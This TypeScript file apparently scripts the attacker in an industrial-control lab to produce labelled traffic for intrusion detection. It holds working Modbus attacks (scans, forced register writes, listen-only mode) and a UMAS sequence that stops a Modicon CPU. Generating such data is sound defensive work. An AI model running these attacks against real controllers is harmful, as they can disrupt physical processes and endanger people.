/** Somebody who plugged in: what each attack does is told in README.md, when it ran in the truth file beside the recording. */
import { createSocket } from 'node:dgram';
import { connect } from 'node:net';
import { u16 } from './bytes.ts';
import { Raw, read } from './modbus-raw.ts';
import { HOSTS, hostNamed } from './network.ts';
import { discover, guess, intrude } from './opcua-attacks.ts';
import { type Counts, plug, sleep } from './wiring.ts';

const TANK = '10.20.1.11';
const VALVE = '10.20.1.12';
const GATEWAY = '10.20.1.20';
const PORTS = [21, 22, 23, 80, 102, 443, 4840, 44818];

async function sweep(): Promise<Counts> {
  const socket = createSocket('udp4');
  socket.on('error', () => undefined);
  for (let last = 1; last <= 80; last++) {
    // Discard: what matters is the ARP request before it.
    socket.send('', 9, `10.20.1.${last}`, () => undefined);
    await sleep(40);
  }
  await sleep(500);
  socket.close();
  return { 'arp-targets': 80 };
}

/** Addresses without a host cost an ARP request only; those with one answer or refuse. */
async function portSweep(): Promise<Counts> {
  const others = HOSTS.map((one) => one.ip).filter((ip) => ip !== hostNamed('attacker').ip && !ip.startsWith('10.20.1.'));
  const targets = [...Array.from({ length: 40 }, (_, i) => `10.20.1.${i + 1}`), ...others];
  await Promise.all(
    targets.map(async (ip, i) => {
      await sleep(i * 60);
      await knock(ip, 502);
    }),
  );
  for (const port of PORTS) await knock(TANK, port);
  return { 'connection-attempts': targets.length + PORTS.length };
}

function knock(ip: string, port: number): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect({ host: ip, port });
    const end = () => {
      socket.destroy();
      resolve();
    };
    socket.setTimeout(900, end);
    socket.once('connect', end);
    socket.once('error', end);
  });
}

/** Runs `act` over a connection to each of `targets` and sums up what was sent. */
async function each(targets: readonly string[], act: (raw: Raw, ip: string) => Promise<void>): Promise<Counts> {
  const sum: Counts = {};
  for (const ip of targets) {
    const raw = await Raw.open(ip);
    await act(raw, ip);
    raw.close();
    for (const [operation, n] of Object.entries(raw.sent)) sum[operation] = (sum[operation] ?? 0) + n;
    await sleep(200);
  }
  return sum;
}

const identify = () =>
  each([TANK, VALVE, GATEWAY], async (raw) => {
    for (const category of [1, 2]) await raw.ask(1, 43, [14, category, 0]);
  });

const scanUnits = () =>
  each([GATEWAY], async (raw) => {
    for (let unit = 1; unit <= 24; unit++) await raw.ask(unit, 4, read(0, 2));
  });

const scanFunctions = () =>
  each([TANK], async (raw) => {
    for (const code of [7, 9, 10, 11, 12, 17, 18, 19, 20, 24, 41, 65, 66, 72, 90, 100, 110, 125]) await raw.ask(1, code, [0, 0, 0, 1], 150);
  });

const scanAddresses = () =>
  each([VALVE], async (raw) => {
    for (let address = 0; address < 4000; address += 100) await raw.ask(1, address % 200 === 0 ? 3 : 4, read(address, 10));
  });

const writeRegisters = () =>
  each([TANK], async (raw) => {
    await raw.ask(1, 6, [...u16(0), ...u16(9500)]);
    await sleep(700);
    await raw.ask(1, 16, [...u16(2), ...u16(2), 4, ...u16(9990), ...u16(0)]);
    await sleep(700);
    await raw.ask(1, 6, [...u16(0), ...u16(9600)]);
  });

const listenOnly = () => each([VALVE], async (raw) => void (await raw.ask(1, 8, [0, 4, 0, 0], 600)));

/** UMAS (function 90) at a Modicon: take the reservation, stop the CPU. */
const stopController = () =>
  each([TANK], async (raw) => {
    await raw.ask(1, 90, [0, 0x10, 0x3b, 0x0e, 0, 0, 6, ...Buffer.from('LAPTOP'), 0]);
    await raw.ask(1, 90, [1, 0x41, 0xff, 0]);
  });

const folder = process.argv[2] as string;
const attacks: { [name: string]: () => Promise<Counts> } = {
  sweep,
  'port-sweep': portSweep,
  identify,
  'scan-units': scanUnits,
  'scan-functions': scanFunctions,
  'scan-addresses': scanAddresses,
  'write-registers': writeRegisters,
  'listen-only': listenOnly,
  'stop-controller': stopController,
  'opcua-discover': () => discover(folder),
  'opcua-guess': () => guess(folder),
  'opcua-intrude': () => intrude(folder),
};

plug({
  attack: async (name) => {
    const act = attacks[name];
    if (act === undefined) throw new Error(`the attacker knows no ${name}`);
    return act();
  },
});
